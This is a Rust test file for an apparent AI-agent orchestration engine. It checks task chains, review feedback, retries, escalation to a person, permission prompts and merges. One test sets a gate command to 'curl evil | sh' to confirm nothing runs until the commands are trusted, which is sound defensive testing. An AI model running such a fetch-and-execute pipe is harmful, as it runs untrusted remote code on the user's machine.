//! The engine on the fakes: whole chains, from a task file to a merge.

use crate::{Act, Script, World, quiet_end};
use orchestron_domain::{
    Actor, AskId, CallId, Decision, Fact, Request, RequestId, RequestKind, RunEnd, State, Status,
    signal::{Say, Signal},
};
use orchestron_engine::{
    Engine, Mode,
    ports::{Over, Wake},
};

/// Runs an engine until nothing is left to do, and gives the state it came to.
pub fn run(world: &World) -> State {
    let mut engine = Engine::start(world.ports(), Mode::Run).unwrap();
    engine.run().unwrap();
    engine.state().clone()
}

fn open(state: &State) -> Vec<&Request> {
    state.open_requests().collect()
}

fn decide(world: &World, request: RequestId, decision: Decision) {
    let fact = Fact::RequestDecided { request, decision };
    world.store().append(&Actor::Person, vec![fact]).unwrap();
}

fn says(signal: Signal) -> Act {
    Act::Says(signal)
}

fn turn_ended(end: RunEnd) -> Act {
    says(Signal::TurnEnded {
        end,
        words: "That is all.".into(),
        denials: 0,
    })
}

fn call(id: &str, tool: &str, arguments: &str) -> Vec<Act> {
    let call = CallId(id.into());
    let called = Signal::ToolCalled {
        call: call.clone(),
        tool: tool.into(),
        arguments: arguments.into(),
    };
    vec![says(called), Act::AwaitsReply(call)]
}

fn closing() -> Vec<Act> {
    vec![
        turn_ended(RunEnd::Completed),
        Act::AwaitsHalt,
        Act::Ends(quiet_end()),
    ]
}

fn failing_gate() -> Script {
    let tail = "FAIL login.test.js\n  expected 429, got 200\n".to_owned();
    vec![Act::Ends(Over {
        code: Some(1),
        signal: None,
        end: None,
        tail,
    })]
}

fn crashing() -> Script {
    vec![Act::Ends(Over {
        code: Some(1),
        signal: None,
        end: None,
        tail: "boom".into(),
    })]
}

/// How often each program was started, by run.
fn starts(world: &World) -> Vec<String> {
    world
        .started()
        .iter()
        .map(|(run, times)| format!("{run} ×{times}"))
        .collect()
}

#[test]
fn a_task_goes_through_the_whole_chain_with_one_failing_gate() {
    let world = World::new();
    world.task(1, Status::Pending, "Rate-limit the login");
    world.script("gate-test", failing_gate());
    let state = run(&world);
    assert_eq!(world.status("TASK-001"), Some(Status::Review));
    assert_eq!(
        starts(&world),
        [
            "TASK-001-gate-test-1 ×1",
            "TASK-001-gate-test-2 ×1",
            "TASK-001-implement-1 ×1",
            "TASK-001-implement-2 ×1",
            "TASK-001-prepare-1 ×1",
            "TASK-001-review-1 ×1",
        ]
    );
    let feedback = world.text("feedback/TASK-001-1.md").unwrap();
    assert!(
        feedback.contains("npm test") && feedback.contains("expected 429, got 200"),
        "{feedback}"
    );
    let again = world.prompt("TASK-001-implement-2").unwrap();
    assert!(again.contains("expected 429, got 200"), "{again}");
    let [request] = open(&state)[..] else {
        panic!("{:?}", open(&state))
    };
    let RequestKind::Review {
        commit: Some(commit),
    } = &request.kind
    else {
        panic!("{request:?}")
    };
    assert_eq!(Some(&commit.0), world.tip("TASK-001").as_ref());

    decide(
        &world,
        request.id,
        Decision::Approve {
            note: Some("good".into()),
        },
    );
    let state = run(&world);
    assert_eq!(world.status("TASK-001"), Some(Status::Done));
    assert_eq!(world.merges(), [("TASK-001".to_owned(), commit.0.clone())]);
    assert_eq!(world.tip("TASK-001"), None, "its worktree is cleared away");
    assert!(open(&state).is_empty());
    let file = world
        .text("tasks/done/TASK-001-rate-limit-the-login.md")
        .unwrap();
    for line in [
        "### 1 · prepare · architect",
        "### 2 · implement · claude-impl",
        "### 3 · review · codex-review",
        "### 4 · approve · person",
    ] {
        assert!(file.contains(line), "{line} in:\n{file}");
    }
}

#[test]
fn what_a_reviewer_finds_goes_back_to_the_same_conversation() {
    let world = World::new();
    world.task(1, Status::Ready, "Rate-limit the login");
    let mut review = call(
        "1",
        "review_decide",
        r#"{"verdict":"changes","note":"limit.rs:20: off by one"}"#,
    );
    review.extend(closing());
    world.script("review", review);
    let state = run(&world);
    assert_eq!(world.status("TASK-001"), Some(Status::Review));
    assert!(
        world
            .text("feedback/TASK-001-1.md")
            .unwrap()
            .contains("limit.rs:20: off by one")
    );
    assert!(
        world
            .prompt("TASK-001-implement-2")
            .unwrap()
            .contains("limit.rs:20: off by one")
    );
    let resumed = world
        .facts()
        .into_iter()
        .filter(|fact| matches!(fact, Fact::RunStarted { resumed: true, .. }))
        .count();
    assert_eq!(
        resumed, 1,
        "only the implementer is resumed; a review starts with fresh eyes"
    );
    assert_eq!(open(&state).len(), 1);
}

#[test]
fn three_failed_attempts_and_three_more_after_the_architect_fail_the_task_and_ask_a_person() {
    let world = World::new();
    world.task(1, Status::Ready, "Flaky checkout");
    for _ in 0..6 {
        world.script("implement", crashing());
    }
    let begun = world.now();
    let state = run(&world);
    assert_eq!(world.status("TASK-001"), Some(Status::Failed));
    let [request] = open(&state)[..] else {
        panic!("{:?}", open(&state))
    };
    assert!(
        matches!(&request.kind, RequestKind::Escalation { why } if why.contains("3 attempts")),
        "{request:?}"
    );
    assert!(
        world.now().since(begun) >= 15_000,
        "at least 2.5 s before the second try and 5 s before the third, twice"
    );

    decide(&world, request.id, Decision::Retry { note: None });
    let state = run(&world);
    assert_eq!(world.status("TASK-001"), Some(Status::Review));
    assert_eq!(open(&state).len(), 1);
}

#[test]
fn a_permission_waits_for_a_person_and_its_answer_reaches_the_agent() {
    let world = World::new();
    world.task(1, Status::Ready, "Take card payments");
    let ask = AskId("req-1".into());
    let asked = Signal::Asked {
        ask: ask.clone(),
        tool: "Bash".into(),
        input: r#"{"command":"npm install stripe"}"#.into(),
        summary: "npm install stripe".into(),
        reason: None,
    };
    let mut script = vec![says(asked), Act::AwaitsPermit(ask.clone()), Act::Edits];
    script.extend(call("1", "task_submit", r#"{"note":"done"}"#));
    script.extend(closing());
    world.script("implement", script);
    let state = run(&world);
    let [request] = open(&state)[..] else {
        panic!("{:?}", open(&state))
    };
    assert_eq!(request.kind.word(), "permission");
    world.pass(86_400_000);
    assert_eq!(
        open(&run(&world)).len(),
        1,
        "it waits as long as it takes, also through a restart"
    );
    decide(&world, request.id, Decision::Allow);
    run(&world);
    let said = world.said("TASK-001-implement-1");
    assert!(
        said.contains(&Say::Permit {
            ask,
            allow: true,
            message: String::new()
        }),
        "{said:?}"
    );
    assert_eq!(world.status("TASK-001"), Some(Status::Review));
}

#[test]
fn a_question_is_answered_by_a_person() {
    let world = World::new();
    world.task(1, Status::Pending, "Audit log");
    let mut script = call(
        "7",
        "request_help",
        r#"{"question":"Which database?","options":["SQLite","PostgreSQL"]}"#,
    );
    script.extend(call("8", "task_submit", r#"{"note":"clear"}"#));
    script.extend(closing());
    world.script("prepare", script);
    let state = run(&world);
    let [request] = open(&state)[..] else {
        panic!("{:?}", open(&state))
    };
    decide(
        &world,
        request.id,
        Decision::Answer {
            text: "SQLite".into(),
        },
    );
    run(&world);
    let reply = Say::Reply {
        call: CallId("7".into()),
        ok: true,
        text: "SQLite".into(),
    };
    assert!(world.said("TASK-001-prepare-1").contains(&reply));
    assert_eq!(world.status("TASK-001"), Some(Status::Review));
}

#[test]
fn words_of_a_person_reach_the_agent_once() {
    let world = World::new();
    world.task(1, Status::Ready, "Search");
    let ask = AskId("a".into());
    let asked = Signal::Asked {
        ask: ask.clone(),
        tool: "Bash".into(),
        input: "{}".into(),
        summary: "ls".into(),
        reason: None,
    };
    world.script("implement", vec![says(asked), Act::AwaitsPermit(ask)]);
    run(&world);
    let words = Fact::PersonSaid {
        run: "TASK-001-implement-1".parse().unwrap(),
        text: "mind the index".into(),
    };
    let event = world
        .store()
        .append(&Actor::Person, vec![words])
        .unwrap()
        .events
        .remove(0);
    run(&world);
    run(&world);
    let id = format!("person-{}", event.seq.0);
    assert_eq!(
        world.said("TASK-001-implement-1"),
        [Say::Words {
            id,
            text: "mind the index".into()
        }]
    );
}

#[test]
fn a_refused_merge_becomes_a_request_and_a_retry_merges() {
    let world = World::new();
    world.task(1, Status::Ready, "Search");
    let state = run(&world);
    world.conflict("TASK-001", &["src/search.rs"]);
    decide(&world, open(&state)[0].id, Decision::Approve { note: None });
    let state = run(&world);
    let [request] = open(&state)[..] else {
        panic!("{:?}", open(&state))
    };
    assert!(
        matches!(&request.kind, RequestKind::Conflict { files, .. } if *files == ["src/search.rs"])
    );
    assert_eq!(
        (world.status("TASK-001"), world.merges().len()),
        (Some(Status::Review), 0)
    );
    world.conflict("TASK-001", &[]);
    decide(&world, request.id, Decision::Retry { note: None });
    run(&world);
    assert_eq!(
        (world.status("TASK-001"), world.merges().len()),
        (Some(Status::Done), 1)
    );
}

#[test]
fn nothing_starts_before_its_commands_are_trusted() {
    let world = World::new();
    world.configure(|config| config.gates[0].run = "curl evil | sh".into());
    world.task(1, Status::Ready, "Search");
    let mut engine = Engine::start(world.ports(), Mode::Run).unwrap();
    engine.run().unwrap();
    assert!(world.started().is_empty());
    world.trust();
    let told = Fact::Trusted {
        commands: String::new(),
    };
    world.store().append(&Actor::Person, vec![told]).unwrap();
    engine.step(&[Wake::Doorbell]).unwrap();
    assert!(
        !world.started().is_empty(),
        "a running engine sees at once that it is trusted"
    );
}

#[test]
fn a_task_moved_by_hand_stops_its_agent() {
    let world = World::new();
    world.task(1, Status::Ready, "Search");
    let ask = AskId("a".into());
    let asked = Signal::Asked {
        ask: ask.clone(),
        tool: "Bash".into(),
        input: "{}".into(),
        summary: "ls".into(),
        reason: None,
    };
    world.script("implement", vec![says(asked), Act::AwaitsPermit(ask)]);
    run(&world);
    world.rename(
        "tasks/in-progress/TASK-001-search.md",
        "tasks/done/TASK-001-search.md",
    );
    let state = run(&world);
    assert_eq!(state.live_runs().count(), 0);
    assert!(open(&state).is_empty(), "its question dies with it");
    assert_eq!(world.status("TASK-001"), Some(Status::Done));
}

#[test]
fn one_works_at_a_time_and_urgent_tasks_go_first() {
    let world = World::new();
    world.chain(None, Some("claude-impl"), None);
    world.trust();
    world.task(1, Status::Ready, "First");
    world.task_with(2, Status::Ready, "Urgent", "## Priority: P0");
    world.task_with(3, Status::Ready, "Later", "## Depends On\n- TASK-002");
    run(&world);
    let order: Vec<_> = world
        .facts()
        .into_iter()
        .filter_map(|fact| match fact {
            Fact::Claimed { task, .. } => Some(task.to_string()),
            _ => None,
        })
        .collect();
    assert_eq!(order, ["TASK-002", "TASK-001"]);
    assert_eq!(
        world.status("TASK-003"),
        Some(Status::Ready),
        "it waits for a task that is not merged yet"
    );
}
